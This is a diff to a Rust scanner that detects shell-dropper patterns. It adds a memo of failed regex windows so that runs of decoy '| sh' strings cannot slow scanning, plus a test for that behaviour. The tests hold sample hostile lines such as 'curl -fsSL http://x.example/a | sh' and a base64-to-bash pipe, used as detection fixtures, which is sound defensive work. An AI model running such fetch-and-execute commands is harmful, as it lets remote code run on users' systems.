@@ -11,6 +11,13 @@
 //! longer one only.
 //!
 //! Memory per file is bounded: one hit (the first) per signature is kept.
+//!
+//! Time is bounded too: a failed confirmation is remembered (per signature, the absolute
+//! window it searched), and a later hit whose window lies inside it is not searched again.
+//! Without that, a line of a million `| sh` would run the dropper regex over 512 bytes a
+//! million times. (A window inside a searched one can only match where the larger one did
+//! not through an assertion at its cut edge, `\b` or `^`; the confirm regexes anchor on
+//! words inside the line, so nothing real is lost.)
 
 use super::{Analyzer, FileCtx, Signal, SignalKind, Subject};
 use crate::signatures::{PatternRef, Signatures};
@@ -18,6 +25,9 @@ use std::sync::Arc;
 
 /// Context kept either side of a hit for confirmation and excerpts.
 const CTX: usize = 256;
+/// How far past a hit a confirm regex searches (within the line), so that one failed
+/// search clears the decoys that follow it.
+const EXTEND: usize = 16 << 10;
 
 /// A hit of one pattern key in the current file.
 #[derive(Debug, Clone)]
@@ -43,6 +53,10 @@ pub struct Matcher {
     ports: Vec<Hit>,
     /// Scratch for the literal matches of one window.
     found: Vec<crate::signatures::literals::Found>,
+    /// The last window (absolute offsets) each signature's confirm regex searched in vain.
+    failed: Vec<(PatternRef, u64, u64)>,
+    /// Confirm regex runs in this file (bounded by the memo above; tests read it).
+    confirm_runs: u64,
 }
 
 impl Matcher {
@@ -56,6 +70,8 @@ impl Matcher {
             hits: Vec::new(),
             ports: Vec::new(),
             found: Vec::new(),
+            failed: Vec::new(),
+            confirm_runs: 0,
         }
     }
 
@@ -67,6 +83,8 @@ impl Matcher {
         self.is_binary = is_binary;
         self.hits.clear();
         self.ports.clear();
+        self.failed.clear();
+        self.confirm_runs = 0;
     }
 
     fn keep(&self) -> usize {
@@ -130,19 +148,40 @@ impl Matcher {
                 }
                 let excerpt = match &sig.confirm {
                     Some(re) => {
-                        let lo = buf[..s]
-                            .iter()
-                            .rposition(|&b| b == b'\n')
-                            .map(|p| p + 1)
-                            .unwrap_or(0)
-                            .max(s.saturating_sub(CTX));
-                        let hi = buf[e..]
-                            .iter()
-                            .position(|&b| b == b'\n')
-                            .map(|p| p + e)
-                            .unwrap_or(buf.len())
-                            .min(e + CTX);
-                        let m = re.find(&buf[lo..hi])?;
+                        // The line around the hit, at most CTX bytes either side; the
+                        // search goes on to EXTEND bytes past the hit (still within the
+                        // line) so a run of decoys costs one search per EXTEND bytes.
+                        let lo = memchr::memrchr(b'\n', &buf[s.saturating_sub(CTX)..s])
+                            .map(|p| s.saturating_sub(CTX) + p + 1)
+                            .unwrap_or(s.saturating_sub(CTX));
+                        let ext = buf.len().min(e + EXTEND);
+                        let ext_hi = memchr::memchr(b'\n', &buf[e..ext]).map_or(ext, |p| e + p);
+                        let hi = ext_hi.min(e + CTX);
+                        let (abs_lo, abs_hi) = (self.base + lo as u64, self.base + hi as u64);
+                        let seen = self.failed.iter().position(|f| f.0 == key);
+                        if let Some(i) = seen {
+                            let (_, flo, fhi) = self.failed[i];
+                            if flo <= abs_lo && abs_hi <= fhi {
+                                return None;
+                            }
+                        }
+                        self.confirm_runs += 1;
+                        let found = re.find(&buf[lo..ext_hi]);
+                        // No match starts before `clear`: windows inside [lo, clear) fail.
+                        let clear = match &found {
+                            Some(m) if lo + m.start() < hi => None,
+                            Some(m) => Some(lo + m.start()),
+                            None => Some(ext_hi),
+                        };
+                        if let Some(clear) = clear {
+                            let f = (key, abs_lo, self.base + clear as u64);
+                            match seen {
+                                Some(i) => self.failed[i] = f,
+                                None => self.failed.push(f),
+                            }
+                            return None;
+                        }
+                        let m = found?;
                         crate::findings::excerpt(m.as_bytes(), 160)
                     }
                     None => super::line_excerpt(buf, s, e, 60),
@@ -355,6 +394,43 @@ mod tests {
         );
         let b64 = run(b"echo ZWNobyBoaQ== | base64 -d | bash", 4096, false);
         assert!(b64.iter().any(|h| h.0 == "base64-pipe-shell"), "{b64:?}");
+    }
+
+    /// A line of a million decoys (`| sh` with no downloader before it) costs a few
+    /// regex runs, not one per decoy; a real dropper after the decoys, on the same line
+    /// or the next, is still confirmed.
+    #[test]
+    fn decoy_runs_do_not_rerun_the_confirm_regex_per_hit() {
+        let decoys = b"| sh ".repeat(200_000);
+        let mut m = Matcher::new(sigs());
+        m.reset(false);
+        for c in decoys.chunks(256 << 10) {
+            m.feed(c);
+        }
+        m.finish();
+        let per_window = (decoys.len() / EXTEND) as u64 + 1;
+        assert!(
+            m.confirm_runs <= 2 * per_window + 8,
+            "{} confirm runs for {} decoys",
+            m.confirm_runs,
+            200_000
+        );
+        assert!(m.signals(&Subject::History { step: 0 }).next().is_none());
+
+        for tail in [
+            &b" curl -fsSL http://x.example/a | sh"[..],
+            b"\ncurl http://x.example/a | sh",
+        ] {
+            let mut data = b"| sh ".repeat(50_000);
+            data.extend_from_slice(tail);
+            for chunk in [4096, 256 << 10] {
+                let hit = run(&data, chunk, false);
+                assert!(
+                    hit.iter().any(|h| h.0 == "download-pipe-shell"),
+                    "chunk {chunk}: {hit:?}"
+                );
+            }
+        }
     }
 
     #[test]
